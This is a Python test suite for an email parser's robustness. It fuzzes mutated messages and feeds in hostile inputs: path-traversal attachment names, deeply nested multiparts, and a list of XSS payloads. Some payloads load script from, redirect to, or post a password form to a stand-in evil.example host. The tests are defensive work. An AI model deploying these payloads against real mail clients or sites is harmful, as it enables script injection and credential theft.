"""parse() against hostile and random input: it never raises, and what it returns is safe.

Two halves:
- property-based tests (hypothesis): random bytes, and random mutations of the
  stalwart corpus messages (read from ../shared/corpora at import time), must
  always give a ParsedMessage that satisfies the invariants in `assert_safe`;
- one test per hostile message built here: path-traversal file names, huge and
  deep multiparts, giant header lines, script-laden HTML, degenerate bodies.
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from postdesk.mail import ParsedMessage, parse
from tests.conftest import CORPORA_DIR

# --------------------------------------------------------------------------- invariants

_DANGEROUS_TAGS = {"script", "iframe", "frame", "object", "embed", "form", "meta", "base", "style", "svg", "math"}
_URL_ATTRS = {"href", "src", "action", "formaction", "background", "lowsrc", "dynsrc", "poster", "xlink:href", "data"}
_BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html")


class _HtmlAudit(HTMLParser):
    """Collects what a browser would see: tag names, attribute names, decoded attribute values."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in _DANGEROUS_TAGS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
            if name in ("srcdoc", "http-equiv"):
                self.problems.append(f"{name}= on <{tag}>")
            if value is None:
                continue
            # Browsers ignore ASCII whitespace and control characters inside a scheme.
            squeezed = "".join(c for c in value if c > " " and c != "\x7f").lower()
            if name in _URL_ATTRS and squeezed.startswith(_BAD_SCHEMES):
                self.problems.append(f"{name}={value!r} on <{tag}>")
            if name == "style" and ("expression(" in squeezed or "javascript:" in squeezed):
                self.problems.append(f"style={value!r} on <{tag}>")

    handle_startendtag = handle_starttag


# An on...= attribute anywhere inside a tag (escaped text like "&lt;img onerror=" is inert).
_EVENT_ATTR = re.compile(r"<[^>]*[\s/\"']on[a-z]+\s*=", re.IGNORECASE)


def assert_safe_html(html: str) -> None:
    low = html.lower()
    assert "<script" not in low, html[:2000]
    assert "javascript:" not in low, html[:2000]
    assert not _EVENT_ATTR.search(html), html[:2000]
    audit = _HtmlAudit()
    audit.feed(html)
    audit.close()
    assert not audit.problems, (audit.problems, html[:2000])


def assert_safe_filename(name: str) -> None:
    assert isinstance(name, str) and name, f"empty file name {name!r}"
    assert "/" not in name and "\\" not in name, name
    assert not any(unicodedata.category(c) == "Cc" for c in name), repr(name)
    assert not name.startswith("."), name


def assert_safe(msg) -> dict:
    """The invariants every parse() result must satisfy, whatever the input."""
    assert isinstance(msg, ParsedMessage), type(msg)
    data = msg.to_dict()
    text = json.dumps(data, ensure_ascii=False)
    text.encode("utf-8")  # raises UnicodeEncodeError on a lone surrogate
    assert msg.date is None or (msg.date.tzinfo is not None and msg.date.utcoffset() is not None), msg.date
    assert isinstance(msg.text, str) and isinstance(msg.subject, str)
    assert all(isinstance(d, str) for d in msg.defects)
    for att in msg.attachments:
        assert att.size == len(att.data), (att.filename, att.size, len(att.data))
        assert att.sha256 == hashlib.sha256(att.data).hexdigest(), att.filename
        assert att.content_type == att.content_type.lower(), att.content_type
        assert_safe_filename(att.filename)
    if msg.html is not None:
        assert_safe_html(msg.html)
    return data


def parse_safely(raw: bytes):
    msg = parse(raw)
    assert_safe(msg)
    return msg


# --------------------------------------------------------------------------- corpus (read at import)


def _load_corpus() -> list[tuple[str, bytes]]:
    root = CORPORA_DIR / "stalwart"
    if not root.is_dir():
        return []
    return [(str(p.relative_to(root)), p.read_bytes()) for p in sorted(root.rglob("*.eml"))]


CORPUS = _load_corpus()
needs_corpus = pytest.mark.skipif(not CORPUS, reason=f"no stalwart corpus under {CORPORA_DIR} (set POSTDESK_SHARED_DIR)")

PROPERTY = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])

corpus_messages = st.sampled_from(CORPUS or [("none", b"")])


def _lines(raw: bytes) -> list[bytes]:
    return raw.splitlines(keepends=True)


def _header_end(lines: list[bytes]) -> int:
    """Index of the first empty line (the header/body separator), or len(lines)."""
    for i, line in enumerate(lines):
        if line in (b"\n", b"\r\n", b"\r"):
            return i
    return len(lines)


@st.composite
def truncated(draw):
    name, raw = draw(corpus_messages)
    return name, raw[: draw(st.integers(0, len(raw)))]


@st.composite
def flipped(draw):
    name, raw = draw(corpus_messages)
    if not raw:
        return name, raw
    buf = bytearray(raw)
    for _ in range(draw(st.integers(1, 20))):
        i = draw(st.integers(0, len(buf) - 1))
        buf[i] ^= draw(st.integers(1, 255))
    return name, bytes(buf)


@st.composite
def without_boundaries(draw):
    name, raw = draw(corpus_messages)
    lines = _lines(raw)
    boundary_lines = [i for i, line in enumerate(lines) if line.startswith(b"--")]
    if not boundary_lines:
        return name, raw
    drop = set(draw(st.lists(st.sampled_from(boundary_lines), min_size=1, unique=True)))
    return name, b"".join(line for i, line in enumerate(lines) if i not in drop)


@st.composite
def duplicated_headers(draw):
    name, raw = draw(corpus_messages)
    lines = _lines(raw)
    end = _header_end(lines)
    if end == 0:
        return name, raw
    for _ in range(draw(st.integers(1, 8))):
        i = draw(st.integers(0, end - 1))
        where = draw(st.integers(0, end))
        lines.insert(where, lines[i])
        end += 1
    return name, b"".join(lines)


@st.composite
def with_nuls(draw):
    name, raw = draw(corpus_messages)
    buf = bytearray(raw)
    for _ in range(draw(st.integers(1, 30))):
        i = draw(st.integers(0, len(buf)))
        buf[i:i] = b"\x00" * draw(st.integers(1, 3))
    return name, bytes(buf)


@st.composite
def mixed_line_ends(draw):
    name, raw = draw(corpus_messages)
    out = []
    for line in _lines(raw):
        body = line.rstrip(b"\r\n")
        if body == line:  # last line, no terminator
            out.append(line)
            continue
        out.append(body + draw(st.sampled_from([b"\n", b"\r\n", b"\r", b"\n\r", b"\r\r\n"])))
    return name, b"".join(out)


MUTATIONS = [truncated(), flipped(), without_boundaries(), duplicated_headers(), with_nuls(), mixed_line_ends()]


@st.composite
def several_mutations(draw):
    """Several mutations applied one after another to one corpus message."""
    name, raw = draw(corpus_messages)
    for _ in range(draw(st.integers(1, 4))):
        kind = draw(st.integers(0, 4))
        if kind == 0 and raw:
            raw = raw[: draw(st.integers(0, len(raw)))]
        elif kind == 1 and raw:
            buf = bytearray(raw)
            buf[draw(st.integers(0, len(buf) - 1))] = draw(st.integers(0, 255))
            raw = bytes(buf)
        elif kind == 2:
            i = draw(st.integers(0, len(raw)))
            raw = raw[:i] + b"\x00" + raw[i:]
        elif kind == 3:
            raw = raw.replace(b"\r\n", b"\n") if b"\r\n" in raw else raw.replace(b"\n", b"\r\n")
        else:
            lines = _lines(raw)
            raw = b"".join(line for line in lines if not line.startswith(b"--") or draw(st.booleans()))
    return name, raw


# --------------------------------------------------------------------------- property tests


@PROPERTY
@given(st.binary(max_size=4000))
def test_random_bytes_give_a_safe_message(raw):
    parse_safely(raw)


@PROPERTY
@given(
    st.lists(
        st.sampled_from(
            [
                b"Content-Type: multipart/mixed; boundary=b\r\n",
                b"Content-Type: text/html\r\n",
                b"Content-Transfer-Encoding: base64\r\n",
                b"Content-Transfer-Encoding: quoted-printable\r\n",
                b"Content-Disposition: attachment; filename=\"../x\"\r\n",
                b"Subject: =?utf-8?b?w6k=?=\r\n",
                b"Date: Mon, 1 Jan 2024 10:00:00 +0100\r\n",
                b"Date: yesterday\r\n",
                b"From: \"A\" <a@b.c>\r\n",
                b"\r\n",
                b"--b\r\n",
                b"--b--\r\n",
                b"<script>alert(1)</script><img src=x onerror=alert(1)>\r\n",
                b"=E9=\r\n",
                b"SGVsbG8=\r\n",
                b"\x00\xff\xfe\r\n",
                b"begin 644 ../a.txt\r\n#86)C\r\n`\r\nend\r\n",
            ]
        ),
        max_size=30,
    )
)
def test_random_mime_shaped_input_gives_a_safe_message(chunks):
    parse_safely(b"".join(chunks))


@needs_corpus
@PROPERTY
@given(truncated())
def test_truncated_corpus_messages_give_a_safe_message(corpora_dir, sample):
    parse_safely(sample[1])


@needs_corpus
@PROPERTY
@given(flipped())
def test_corpus_messages_with_flipped_bytes_give_a_safe_message(corpora_dir, sample):
    parse_safely(sample[1])


@needs_corpus
@PROPERTY
@given(without_boundaries())
def test_corpus_messages_without_some_boundary_lines_give_a_safe_message(corpora_dir, sample):
    parse_safely(sample[1])


@needs_corpus
@PROPERTY
@given(duplicated_headers())
def test_corpus_messages_with_duplicated_headers_give_a_safe_message(corpora_dir, sample):
    parse_safely(sample[1])


@needs_corpus
@PROPERTY
@given(with_nuls())
def test_corpus_messages_with_nuls_give_a_safe_message(corpora_dir, sample):
    parse_safely(sample[1])


@needs_corpus
@PROPERTY
@given(mixed_line_ends())
def test_corpus_messages_with_mixed_line_ends_give_a_safe_message(corpora_dir, sample):
    parse_safely(sample[1])


@needs_corpus
@PROPERTY
@given(several_mutations())
def test_corpus_messages_with_several_mutations_give_a_safe_message(corpora_dir, sample):
    parse_safely(sample[1])


@needs_corpus
@pytest.mark.parametrize("name", [n for n, _ in CORPUS] or ["none"])
def test_each_corpus_message_unmodified_gives_a_safe_message(corpora_dir, name):
    parse_safely(dict(CORPUS)[name])


# --------------------------------------------------------------------------- builders

HEAD = b"From: Alice <alice@example.com>\r\nTo: desk@example.org\r\nSubject: hostile\r\nMIME-Version: 1.0\r\n"


def multipart(parts: list[bytes], boundary: bytes = b"BOUNDARY", subtype: bytes = b"mixed", head: bytes = HEAD) -> bytes:
    out = [head, b"Content-Type: multipart/" + subtype + b'; boundary="' + boundary + b'"\r\n\r\n']
    for part in parts:
        out += [b"--", boundary, b"\r\n", part, b"\r\n"]
    out += [b"--", boundary, b"--\r\n"]
    return b"".join(out)


def text_part(text: str) -> bytes:
    return b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + text.encode()


def file_part(filename: str, data: bytes, content_type: str = "application/octet-stream") -> bytes:
    return (
        f'Content-Type: {content_type}; name="{filename}"\r\n'
        f'Content-Disposition: attachment; filename="{filename}"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\n"
    ).encode() + base64.encodebytes(data).replace(b"\n", b"\r\n")


def html_message(html: str) -> bytes:
    return HEAD + b"Content-Type: text/html; charset=utf-8\r\n\r\n" + html.encode()


# --------------------------------------------------------------------------- file names


@pytest.mark.parametrize(
    ("filename", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("/etc/shadow", "shadow"),
        # In a quoted-string a backslash may be read as a quoted-pair, so only the tail is certain.
        ("..\\..\\windows\\system32", "system32"),
        ("C:\\Users\\x\\evil.exe", "evil.exe"),
    ],
)
def test_path_traversal_filename_keeps_only_the_last_component(filename, expected):
    msg = parse_safely(multipart([text_part("see attached"), file_part(filename, b"root:x:0:0")]))
    assert len(msg.attachments) == 1
    assert msg.attachments[0].filename.endswith(expected)
    if "\\" not in filename:
        assert msg.attachments[0].filename == expected
    assert msg.attachments[0].data == b"root:x:0:0"


@pytest.mark.parametrize(
    ("encoded", "expected"),
    [("..%2F..%2Fetc%2Fpasswd", "passwd"), ("..%5C..%5Cwindows%5Csystem32", "system32")],
)
def test_path_traversal_in_rfc2231_filename_keeps_only_the_last_component(encoded, expected):
    part = (
        b"Content-Type: application/octet-stream\r\n"
        b"Content-Disposition: attachment; filename*=utf-8''" + encoded.encode() + b"\r\n\r\nroot"
    )
    msg = parse_safely(multipart([text_part("x"), part]))
    assert [a.filename for a in msg.attachments] == [expected]


def test_filename_with_control_characters_and_leading_dots_is_made_safe():
    part = (
        b"Content-Type: application/octet-stream\r\n"
        b'Content-Disposition: attachment; filename="..\x01.bash\x1brc\x7f"\r\n\r\nx'
    )
    msg = parse_safely(multipart([text_part("x"), part]))
    assert len(msg.attachments) == 1
    assert "bash" in msg.attachments[0].filename


def test_filename_of_only_dots_gets_a_sensible_name():
    msg = parse_safely(multipart([text_part("x"), file_part("..", b"%PDF-1.4", "application/pdf")]))
    assert len(msg.attachments) == 1
    assert msg.attachments[0].filename not in ("", ".", "..")


def test_very_long_filename_is_capped():
    msg = parse_safely(multipart([text_part("x"), file_part("a" * 5000 + ".pdf", b"%PDF", "application/pdf")]))
    assert len(msg.attachments) == 1
    assert len(msg.attachments[0].filename) <= 255
    assert len(msg.attachments[0].filename.encode("utf-8")) <= 255


# --------------------------------------------------------------------------- size and depth


def test_ten_thousand_part_multipart():
    parts = [text_part("first part")] + [file_part(f"f{i}.bin", str(i).encode()) for i in range(9_999)]
    msg = parse_safely(multipart(parts))
    assert "first part" in msg.text
    # Either every part is there, or the parser says it stopped somewhere.
    assert len(msg.attachments) == 9_999 or msg.defects


def _nested(depth: int, innermost: bytes) -> bytes:
    body = innermost
    for level in range(depth):
        b = f"b{level}".encode()
        body = b"Content-Type: multipart/mixed; boundary=" + b + b"\r\n\r\n--" + b + b"\r\n" + body + b"\r\n--" + b + b"--\r\n"
    return HEAD + body


def test_multipart_nested_100_deep():
    msg = parse_safely(_nested(100, text_part("deep down")))
    assert "deep down" in msg.text


def test_multipart_nested_1000_deep_does_not_raise():
    raw = _nested(1000, text_part("deep down"))
    msg = parse_safely(raw)  # a RecursionError escaping parse() fails here
    assert "deep down" in msg.text or msg.defects


def test_message_rfc822_nested_1000_deep_does_not_raise():
    raw = b"From: x@example.com\r\nSubject: inner\r\n\r\ndeep down\r\n"
    for _ in range(1000):
        raw = b"From: x@example.com\r\nSubject: fwd\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n" + raw
    msg = parse_safely(raw)
    assert msg.subject == "fwd"


def test_subject_of_100000_characters():
    msg = parse_safely(HEAD.replace(b"Subject: hostile", b"Subject: " + b"A" * 100_000) + b"\r\nbody\r\n")
    assert msg.subject.startswith("A" * 100)
    assert set(msg.subject) == {"A"}
    assert "body" in msg.text


def test_subject_of_100000_characters_in_many_words():
    words = b" ".join(b"w%d" % i for i in range(20_000))[:100_000]
    msg = parse_safely(HEAD.replace(b"Subject: hostile", b"Subject: " + words) + b"\r\nbody\r\n")
    assert msg.subject.startswith("w0 w1 w2")


def test_address_header_of_100000_characters_with_many_addresses():
    addrs = b", ".join(b"user%d@example.com" % i for i in range(6_000))
    assert len(addrs) > 100_000
    msg = parse_safely(HEAD.replace(b"To: desk@example.org", b"To: " + addrs) + b"\r\nbody\r\n")
    assert msg.to, "no address survived"
    assert msg.to[0].address == "user0@example.com"
    assert len(msg.to) == 6_000 or msg.defects


def test_address_header_with_a_100000_character_display_name():
    head = HEAD.replace(b"From: Alice <alice@example.com>", b'From: "' + b"N" * 100_000 + b'" <bob@example.com>')
    msg = parse_safely(head + b"\r\nbody\r\n")
    assert msg.from_ is not None
    assert msg.from_.address == "bob@example.com"


def test_address_header_with_a_100000_character_local_part():
    head = HEAD.replace(b"To: desk@example.org", b"To: " + b"x" * 100_000 + b"@example.com")
    parse_safely(head + b"\r\nbody\r\n")


def test_address_header_of_100000_unbalanced_brackets_and_quotes():
    head = HEAD.replace(b"To: desk@example.org", b"To: " + b'<"(' * 33_334)
    parse_safely(head + b"\r\nbody\r\n")


# --------------------------------------------------------------------------- hostile HTML

HOSTILE_HTML = {
    "script": "<script>alert(1)</script>",
    "script-uppercase": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-split": "<scr<script>ipt>alert(1)</script>",
    "img-onerror": '<img src="x" onerror="alert(1)">',
    "img-onerror-unquoted": "<img src=x onerror=alert(1)>",
    "body-onload": "<body onload=alert(1)>",
    "a-javascript": '<a href="javascript:alert(1)">x</a>',
    "a-javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "a-javascript-tab-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "a-javascript-decimal-entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "a-javascript-leading-space": '<a href=" javascript:alert(1)">x</a>',
    "a-javascript-newline": '<a href="java\nscript:alert(1)">x</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "svg-onload": "<svg onload=alert(1)><circle r=1></circle></svg>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-src": '<iframe src="javascript:alert(1)"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "style-expression": "<style>p { width: expression(alert(1)); }</style>",
    "style-url-javascript": "<style>body { background: url(javascript:alert(1)); }</style>",
    "style-attr-expression": '<p style="width: expression(alert(1))">styled</p>',
    "style-attr-url-javascript": '<p style="background:url(javascript:alert(1))">styled</p>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta-refresh-http": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "base-href": '<base href="http://evil.example/">',
    "form-action": '<form action="http://evil.example/steal"><input name="password"><button>Go</button></form>',
    "button-formaction": '<button formaction="javascript:alert(1)">x</button>',
    "math-href": '<math href="javascript:alert(1)">x</math>',
    "unclosed-attribute": '<img src="x" onerror="alert(1)',
    "comment-trick": "<!--<img src=x onerror=alert(1)>--><img src=x onerror=alert(1)//>",
    "noscript-trick": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
}


@pytest.mark.parametrize("payload", list(HOSTILE_HTML.values()), ids=list(HOSTILE_HTML))
def test_hostile_html_is_sanitized(payload):
    msg = parse_safely(html_message(f"<html><head></head><body><p>visible</p>{payload}<p>after</p></body></html>"))
    assert msg.html is not None, "the message has an HTML part"
    assert "visible" in msg.html
    assert_safe_html(msg.html)  # no <script, on...=, javascript:
    low = msg.html.lower()
    for gone in ("expression(", "<meta", "<base", "<form", "<iframe", "srcdoc", "<svg", "<style", "<object", "<embed"):
        assert gone not in low, (gone, msg.html)
    assert "evil.example" not in low, msg.html


def test_hostile_html_inside_multipart_alternative_is_sanitized():
    html = "<p onclick=alert(1)>hi</p><script>alert(2)</script><a href='javascript:alert(3)'>x</a>"
    raw = multipart(
        [text_part("hi"), b"Content-Type: text/html; charset=utf-8\r\n\r\n" + html.encode()], subtype=b"alternative"
    )
    msg = parse_safely(raw)
    assert msg.html is not None and "hi" in msg.html
    assert "alert" not in msg.html


def test_hostile_html_in_base64_and_quoted_printable_is_sanitized():
    html = b"<p>ok</p><img src=x onerror=alert(1)><script>alert(2)</script>"
    b64 = HEAD + b"Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(html)
    qp = HEAD + b"Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + html.replace(
        b"=", b"=3D"
    ).replace(b"<script", b"<scr=\r\nipt")
    for raw in (b64, qp):
        msg = parse_safely(raw)
        assert msg.html is not None and "ok" in msg.html
        assert "alert" not in msg.html


def test_html_text_keeps_no_script_source():
    msg = parse_safely(html_message("<p>hello</p><script>var secret = 'leak';</script><style>p{color:red}</style>"))
    assert "hello" in msg.text
    assert "secret" not in msg.text and "color:red" not in msg.text


# --------------------------------------------------------------------------- degenerate messages


def test_empty_input():
    msg = parse_safely(b"")
    assert msg.subject == "" and msg.text.strip() == "" and msg.html is None
    assert msg.attachments == [] and msg.from_ is None and msg.date is None and msg.message_id is None


def test_only_headers_no_separator_no_body():
    msg = parse_safely(b"From: a@example.com\r\nSubject: just headers\r\nMessage-ID: <x@y>")
    assert msg.subject == "just headers"
    assert msg.from_ is not None and msg.from_.address == "a@example.com"
    assert msg.message_id == "x@y"
    assert msg.text.strip() == "" and msg.attachments == []


def test_only_headers_and_separator():
    msg = parse_safely(b"From: a@example.com\r\nSubject: just headers\r\n\r\n")
    assert msg.subject == "just headers"
    assert msg.text.strip() == ""


def test_body_of_only_crlf():
    msg = parse_safely(HEAD + b"\r\n\r\n")
    assert msg.subject == "hostile"
    assert msg.text.strip() == "" and msg.attachments == []


def test_only_crlf():
    parse_safely(b"\r\n")
    parse_safely(b"\r\n\r\n\r\n")
    parse_safely(b"\n")


def test_two_megabyte_body_line_without_newline():
    line = b"0123456789" * 200_000
    msg = parse_safely(HEAD + b"\r\n" + line)
    assert msg.text.startswith("0123456789" * 10)


def test_two_megabyte_input_without_any_newline():
    parse_safely(b"x" * 2_000_000)


def test_two_megabyte_header_line_without_newline():
    parse_safely(b"Subject: " + b"s" * 2_000_000)


@pytest.mark.parametrize(
    "body",
    [b"!!!! this is not base64 at all ****\r\n", b"SGVsbG8\r\n", b"=====\r\n", b"\xff\xfe\x00\x01\r\n"],
    ids=["garbage", "bad-padding", "only-padding", "binary"],
)
def test_text_body_declared_base64_but_invalid(body):
    raw = HEAD + b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n" + body
    msg = parse_safely(raw)
    assert msg.defects, "invalid base64 must be recorded as a defect"


def test_attachment_declared_base64_but_invalid():
    part = (
        b"Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=r.pdf\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n%%% not base64 %%%\r\n"
    )
    msg = parse_safely(multipart([text_part("see attached"), part]))
    assert "see attached" in msg.text
    assert msg.defects


def test_unknown_content_transfer_encoding():
    raw = HEAD + b"Content-Type: text/plain\r\nContent-Transfer-Encoding: x-rot13-deluxe\r\n\r\nhello\r\n"
    msg = parse_safely(raw)
    assert "hello" in msg.text


def test_boundary_of_1000_characters():
    boundary = b"B" * 1000
    msg = parse_safely(multipart([text_part("hello from part one"), file_part("a.txt", b"A")], boundary=boundary))
    assert "hello from part one" in msg.text
    assert boundary.decode() not in msg.text


def test_boundary_of_100000_characters():
    boundary = b"B" * 100_000
    parse_safely(multipart([text_part("hello"), file_part("a.txt", b"A")], boundary=boundary))


def test_multipart_without_boundary_parameter():
    raw = (
        HEAD + b"Content-Type: multipart/mixed\r\n\r\n--xyz\r\nContent-Type: text/plain\r\n\r\n"
        b"hello without boundary\r\n--xyz--\r\n"
    )
    msg = parse_safely(raw)
    assert "hello without boundary" in msg.text
    assert msg.defects


def test_multipart_with_empty_boundary_parameter():
    raw = HEAD + b'Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\nContent-Type: text/plain\r\n\r\nhello\r\n----\r\n'
    msg = parse_safely(raw)
    assert "hello" in msg.text


def test_multipart_whose_boundary_never_appears():
    raw = HEAD + b"Content-Type: multipart/mixed; boundary=nowhere\r\n\r\njust some text\r\n"
    msg = parse_safely(raw)
    assert "just some text" in msg.text or msg.defects


def test_nul_bytes_everywhere():
    raw = (HEAD + b"Content-Type: text/plain\r\n\r\nhello world\r\n").replace(b"o", b"o\x00")
    msg = parse_safely(raw)
    assert "hello" in msg.text


def test_undecodable_header_bytes_and_surrogate_escapes():
    raw = b"Subject: \xed\xa0\x80 lone surrogate \xff\r\nFrom: \xe9t\xe9 <x@example.com>\r\n\r\nbody \xed\xb2\x80\r\n"
    msg = parse_safely(raw)
    assert msg.from_ is not None and msg.from_.address == "x@example.com"


def test_encoded_word_with_unknown_charset_and_broken_base64():
    raw = b"Subject: =?x-unknown?B?////?= =?utf-8?B?not*base64?= =?utf-8?Q?=FF=FE?=\r\n\r\nbody\r\n"
    parse_safely(raw)
